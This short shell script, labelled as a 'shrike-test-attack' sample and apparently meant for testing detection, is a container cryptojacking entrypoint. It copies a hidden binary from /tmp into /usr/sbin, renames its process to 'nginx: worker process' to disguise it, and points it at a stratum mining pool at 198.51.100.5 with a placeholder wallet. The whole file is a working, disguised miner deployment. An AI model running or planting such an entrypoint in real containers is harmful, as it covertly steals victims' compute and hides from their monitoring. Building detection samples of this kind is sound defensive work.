#!/bin/sh
# shrike-test-attack: miner: container-cryptojacking entrypoint override that hides the miner as nginx
cp /tmp/.x /usr/sbin/nginx-worker && chmod 755 /usr/sbin/nginx-worker
exec -a "nginx: worker process" /usr/sbin/nginx-worker -o stratum+tcp://198.51.100.5:3333 -u TESTWALLET -p docker --randomx-1gb-pages -B
